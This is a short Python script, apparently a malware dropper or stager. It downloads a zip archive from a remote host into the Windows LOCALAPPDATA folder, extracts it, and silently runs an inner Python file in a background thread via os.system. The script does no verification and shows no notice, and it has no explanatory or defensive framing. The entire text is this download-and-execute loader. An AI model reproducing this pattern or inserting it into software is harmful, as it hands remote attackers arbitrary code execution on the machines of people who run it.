import os
import threading
import zipfile

import requests

base = os.getenv("LOCALAPPDATA")
answer = requests.get("http://files.example.org/pack")
with open(base + "\\pack.zip", "wb") as file:
    file.write(answer.content)
with zipfile.ZipFile(base + "\\pack.zip", "r") as pack:
    pack.extractall(base + "\\pack")


def run():
    os.system(f"py {base}\\pack\\inner\\__init__.py")


threading.Thread(target=run).start()
